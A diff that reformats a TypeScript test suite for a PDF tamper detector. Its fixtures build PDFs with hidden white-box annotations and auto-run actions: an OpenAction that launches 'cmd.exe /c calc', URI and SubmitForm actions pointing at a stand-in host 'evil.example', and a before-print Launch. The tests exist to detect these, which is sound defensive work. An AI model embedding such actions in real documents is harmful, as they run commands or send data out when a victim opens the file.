@@ -15,14 +15,20 @@ async function rewrite(edit: (doc: PDFDocument, ctx: PDFContext) => void): Promi
 }
 
 /** White boxes over page 3 as Square annotations with these flags. */
-const whiteSquares = (flags: number) => (doc: PDFDocument, ctx: PDFContext): void => {
-  const annots = ctx.obj([]);
-  for (const y of [242, 148]) {
-    const ap = ctx.stream('1 1 1 rg 0 0 44 17 re f', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 44, 17] });
-    annots.push(ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Square', F: flags, Rect: [523, y, 567, y + 17], C: [1, 1, 1], IC: [1, 1, 1], AP: { N: ctx.register(ap) } })));
-  }
-  doc.getPage(2).node.set(PDFName.of('Annots'), annots);
-};
+const whiteSquares =
+  (flags: number) =>
+  (doc: PDFDocument, ctx: PDFContext): void => {
+    const annots = ctx.obj([]);
+    for (const y of [242, 148]) {
+      const ap = ctx.stream('1 1 1 rg 0 0 44 17 re f', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 44, 17] });
+      annots.push(
+        ctx.register(
+          ctx.obj({ Type: 'Annot', Subtype: 'Square', F: flags, Rect: [523, y, 567, y + 17], C: [1, 1, 1], IC: [1, 1, 1], AP: { N: ctx.register(ap) } }),
+        ),
+      );
+    }
+    doc.getPage(2).node.set(PDFName.of('Annots'), annots);
+  };
 
 const S = (s: string): PDFString => PDFString.of(s);
 
@@ -35,7 +41,11 @@ describe('annotations whatever their flags (a3)', () => {
   it('a pdf-lib re-save is still ok', async () => {
     expect((await filingFindings(await rewrite(() => undefined), env)).integrity).toBe('ok');
   });
-  for (const [what, flags] of [['Print + NoView', 36], ['Hidden', 2], ['Print only', 4]] as const) {
+  for (const [what, flags] of [
+    ['Print + NoView', 36],
+    ['Hidden', 2],
+    ['Print only', 4],
+  ] as const) {
     it(`white squares flagged ${what} are tampered-document (annotations)`, async () => {
       const r = await filingFindings(await rewrite(whiteSquares(flags)), env);
       expect(r.integrity).toBe('tampered');
@@ -47,8 +57,14 @@ describe('annotations whatever their flags (a3)', () => {
 describe('every action, whatever its type (a10)', () => {
   const cases: [string, (doc: PDFDocument, ctx: PDFContext) => void][] = [
     ['an OpenAction URI', (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'URI', URI: S('http://evil.example/track') }))],
-    ['an OpenAction Launch', (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'Launch', F: S('cmd.exe'), Win: { F: S('cmd.exe'), P: S('/c calc') } }))],
-    ['an OpenAction SubmitForm', (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'SubmitForm', F: { FS: 'URL', F: S('http://evil.example/s') }, Flags: 4 }))],
+    [
+      'an OpenAction Launch',
+      (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'Launch', F: S('cmd.exe'), Win: { F: S('cmd.exe'), P: S('/c calc') } })),
+    ],
+    [
+      'an OpenAction SubmitForm',
+      (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'SubmitForm', F: { FS: 'URL', F: S('http://evil.example/s') }, Flags: 4 })),
+    ],
     ['a page /AA URI', (d, c) => d.getPage(2).node.set(PDFName.of('AA'), c.obj({ O: { S: 'URI', URI: S('http://evil.example/p3') } }))],
     ['a catalog /AA before-print Launch', (d, c) => d.catalog.set(PDFName.of('AA'), c.obj({ WP: { S: 'Launch', F: S('cmd.exe') } }))],
   ];
